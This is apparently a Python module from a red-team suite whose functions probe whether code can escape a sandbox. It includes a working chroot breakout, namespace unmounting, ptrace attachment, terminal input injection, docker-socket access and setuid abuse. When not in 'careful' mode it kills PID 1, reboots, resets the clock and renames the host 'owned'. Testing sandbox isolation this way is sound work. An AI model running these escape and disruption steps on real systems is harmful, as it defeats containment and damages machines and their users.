"""Reaching out: privileges, other processes, the machine's settings."""

import contextlib
import ctypes
import os
import resource
import shutil
import signal
import socket
import stat
import subprocess
import time

from finassay_redteam.tools import CAREFUL, MACHINE, NUMBERS, PATIENCE, Way, in_child, libc, of_the_harness, others, walk, way

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000


@way("reach", "proc-settings")
def settings_of_the_machine(tried: Way) -> None:
    """Opened for writing, not written."""
    for name in ("sys/kernel/core_pattern", "sys/kernel/hostname", "sys/fs/file-max", "sys/vm/overcommit_memory", "sysrq-trigger", "mtrr"):
        if os.path.exists(f"/proc/{name}"):
            tried.attempt(f"open /proc/{name} for writing", lambda n=name: os.close(os.open(f"/proc/{n}", os.O_WRONLY)))


@way("reach", "signals")
def signals(tried: Way) -> None:
    """Whether they would arrive at anybody else's process; and the end for the first one of the box, where that is not the machine's own."""
    for pid in others():
        with contextlib.suppress(OSError):
            os.kill(pid, 0)
            tried.did(f"reached process {pid}")
    if not CAREFUL and os.getppid() == 1:
        os.kill(1, signal.SIGKILL)


@way("reach", "ptrace")
def trace(tried: Way) -> None:
    for pid in {1, os.getppid(), *others()[:20]}:
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as stream:
            if in_child(lambda p=pid: libc.ptrace(0x4206, p, None, None)) == 0 and (pid in others() or of_the_harness(stream.read())):
                tried.did(f"traced process {pid}")  # PTRACE_SEIZE, which stops nobody


@way("reach", "mount", harmful=True)
def mount(tried: Way) -> None:
    tmp = os.environ["TMPDIR"].encode()
    tried.attempt("mount a file system", lambda: libc.mount(b"none", tmp, b"tmpfs", 0, None))
    tried.attempt("bind a folder", lambda: libc.mount(b"/", tmp, None, 4096, None))
    tried.attempt("take a mount away", lambda: libc.umount2(b"/etc/passwd", 2))
    tried.attempt("remount the root", lambda: libc.mount(None, b"/", None, 32 | 4096, None))


@way("reach", "namespaces")
def own_namespaces(tried: Way) -> None:
    """With namespaces of its own a program has every capability in them; what was covered must stay covered."""

    def act() -> list[str]:
        uid, gid = os.getuid(), os.getgid()
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
            return []
        with contextlib.suppress(OSError):
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                with open(f"/proc/self/{name}", "w") as stream:
                    stream.write(text)
        told = []
        with open("/proc/self/mountinfo") as stream:
            points = [line.split()[4] for line in stream]
        told += [f"uncovered {point}" for point in points if point != "/" and libc.umount2(point.encode(), 2) == 0]
        if libc.mount(b"proc", b"/tmp", b"proc", 0, None) == 0:
            told.append("mounted a fresh /proc")
        with contextlib.suppress(OSError):
            os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
            told.append("opened core_pattern for writing")
        return told

    for what in in_child(act) or ():
        tried.did(what)


@way("reach", "chroot")
def leave_the_root(tried: Way) -> None:
    def act() -> bool:
        folder = os.open("/", os.O_RDONLY)
        os.makedirs(os.path.join(os.environ["TMPDIR"], "jail"), exist_ok=True)
        os.chroot(os.path.join(os.environ["TMPDIR"], "jail"))
        os.fchdir(folder)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return os.path.exists(os.path.expanduser("~root/.bash_history")) or os.path.exists("/etc/shadow")

    if in_child(act):
        tried.did("left the root folder")


@way("reach", "set-user-id")
def become_another(tried: Way) -> None:
    user = 1 if os.getuid() == 0 else 0
    if in_child(lambda: os.setresuid(user, user, user) is None):
        tried.did(f"became user {user}")
    for path in ("/usr/bin/sudo", "/usr/bin/su", "/usr/bin/pkexec", "/usr/bin/mount", "/usr/bin/newuidmap"):
        if os.path.exists(path) and os.stat(path).st_mode & stat.S_ISUID:
            arguments = {"sudo": ["-n", "id"], "su": ["-c", "id", "nobody"]}.get(os.path.basename(path), ["--version"])
            done = subprocess.run([path, *arguments], capture_output=True, timeout=5, stdin=subprocess.DEVNULL, check=False)
            if b"uid=" in done.stdout:
                tried.did(f"{path} gave another user")


@way("reach", "clock")
def clock(tried: Way) -> None:
    if not CAREFUL:
        moment = (ctypes.c_long * 2)(int(time.time()), 0)
        tried.attempt("set the clock", lambda: libc.clock_settime(0, moment))
        tried.attempt("name the machine", lambda: libc.sethostname(b"owned", 5))


@way("reach", "priority")
def priority(tried: Way) -> None:
    if in_child(lambda: os.setpriority(os.PRIO_PROCESS, 0, -10) is None):
        tried.did("a higher priority")
    if in_child(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) is None):
        tried.did("real-time scheduling")
    if not CAREFUL:
        for pid in others():
            tried.attempt(f"a lower priority for {pid}", lambda p=pid: os.setpriority(os.PRIO_PROCESS, p, 19))


@way("reach", "limits")
def limits(tried: Way) -> None:
    if resource.getrlimit(resource.RLIMIT_AS)[1] != resource.RLIM_INFINITY:
        raised = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
        tried.attempt("raise the limit of memory", lambda: resource.setrlimit(resource.RLIMIT_AS, raised))
    for pid in others():
        tried.attempt(f"limit process {pid}", lambda p=pid: resource.prlimit(p, resource.RLIMIT_NOFILE) and None)


@way("reach", "out-of-memory")
def survive(tried: Way) -> None:
    def act() -> None:
        with open("/proc/self/oom_score_adj", "w") as stream:
            stream.write("-1000")

    tried.attempt("be the last to be ended for want of memory", act)


@way("reach", "control-groups")
def control_groups(tried: Way) -> None:
    for root in ("/sys/fs/cgroup", "/cgroup"):
        for path, _ in walk(root, time.monotonic() + PATIENCE):
            if os.path.basename(path) in ("cgroup.procs", "release_agent", "notify_on_release"):
                tried.attempt(f"open {path} for writing", lambda p=path: os.close(os.open(p, os.O_WRONLY)))
                break
    if not CAREFUL:
        tmp = os.environ["TMPDIR"].encode()
        tried.attempt("mount control groups", lambda: libc.mount(b"none", tmp, b"cgroup2", 0, None))


@way("reach", "kernel-calls")
def kernel_calls(tried: Way) -> None:
    for name in ("init_module", "kexec_load", "bpf", "perf_event_open"):
        tried.attempt(name, lambda n=name: libc.syscall(NUMBERS[MACHINE][n], 0, ctypes.create_string_buffer(256), 128, 0, 0))
    if not CAREFUL:
        tried.attempt("reboot", lambda: libc.reboot(0))  # the command that switches off a key combination


@way("reach", "terminal")
def terminal(tried: Way) -> None:
    """Typing into the harness's terminal."""
    import fcntl

    for path in (0, "/dev/tty") if CAREFUL else (0, "/dev/tty", "/dev/console", "/dev/tty1"):
        with contextlib.suppress(OSError):
            descriptor = path if isinstance(path, int) else os.open(path, os.O_RDWR)
            tried.attempt(f"type into {path}", lambda d=descriptor: fcntl.ioctl(d, 0x5412, b"\n") and None)


@way("reach", "core-dump")
def core_dump(tried: Way) -> None:
    def crash() -> None:
        os.chdir(os.environ["TMPDIR"])
        os.abort()

    in_child(crash, 2)
    if list(filter(lambda n: n.startswith("core"), os.listdir(os.environ["TMPDIR"]))):
        tried.did("a core dump was written")


@way("reach", "schedulers")
def schedulers(tried: Way) -> None:
    """Somebody else's program that would start ours, outside."""
    for command in (["at", "now"], ["crontab", "-"], ["systemd-run", "--user", "id"], ["systemd-run", "id"], ["busctl", "list"]):
        if shutil.which(command[0]):
            done = subprocess.run(command, input=b"", capture_output=True, timeout=5, check=False)
            if done.returncode == 0:
                tried.did(" ".join(command))
    for path in ("/run/dbus/system_bus_socket", "/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock"):
        with socket.socket(socket.AF_UNIX) as stream:
            tried.attempt(f"connect to {path}", lambda p=path, s=stream: s.connect(p))


def _in_memory(folder: str) -> bool:
    """Whether a folder lies in a file system of the box's own making."""
    status = (ctypes.c_long * 32)()
    return libc.statfs(folder.encode(), status) == 0 and status[0] == 0x01021994


@way("reach", "read-only")
def write_outside(tried: Way) -> None:
    """By files without a name, which leave nothing where it works."""
    for folder in (
        "/",
        "/usr",
        "/usr/bin",
        "/etc",
        "/var",
        "/run",
        "/root",
        "/home",
        "/dev",
        "/proc",
        os.path.dirname(os.path.realpath(".")),
    ):
        worked = tried.attempt(f"write in {folder}", lambda f=folder: os.close(os.open(f, os.O_TMPFILE | os.O_RDWR, 0o600)))
        if worked and _in_memory(folder):
            tried.notes.append(tried.worked.pop() + ", which is the box's own")
    tried.attempt("write the program's own package", lambda: os.close(os.open(__file__, os.O_WRONLY)))
